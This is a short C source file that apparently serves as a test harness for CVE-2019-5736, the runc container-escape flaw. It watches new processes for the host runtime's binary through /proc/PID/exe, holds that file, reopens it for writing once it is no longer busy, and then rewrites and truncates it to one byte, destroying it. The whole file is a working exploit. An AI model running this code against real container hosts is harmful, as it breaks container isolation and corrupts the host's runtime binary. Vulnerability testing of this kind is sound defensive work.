// CVE-2019-5736: something inside executes /proc/self/exe and becomes, for a moment, the runtime's own program; who looks at
// the right time holds that file, and writes to it once nobody executes it any more.
#include "hostile.h"

// Whether the process runs a program that is not the image's: then it is held. The number of the next process is one of the next few.
static int hold(pid_t *next) {
  for (pid_t pid = *next; pid < *next + 8; pid++) {
    char path[64], target[4096];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    if (strncmp(target, "/bin/", 5)) {
      printf("holds %s\n", target);
      return fd;
    }
    close(fd);
  }
  while (kill(*next, 0) == 0 || errno == EPERM) (*next)++;
  return -1;
}

// Writes back the byte that is there, then cuts the file off.
int overwrite(int argc, char **argv) {
  (void)argc, (void)argv;
  puts("watching");
  pid_t next = getpid();
  double deadline = now() + 20;
  int held;
  do held = hold(&next);
  while (held < 0 && now() < deadline);
  if (held < 0) return 1;
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  deadline = now() + 5;
  int fd;
  do fd = open(path, O_RDWR);
  while (fd < 0 && errno == ETXTBSY && now() < deadline);
  report("open", fd);
  if (fd < 0) return 0;
  char byte = 0;
  report("read", pread(fd, &byte, 1, 0));
  report("write", pwrite(fd, &byte, 1, 0));
  report("truncate", ftruncate(fd, 1));
  return 0;
}
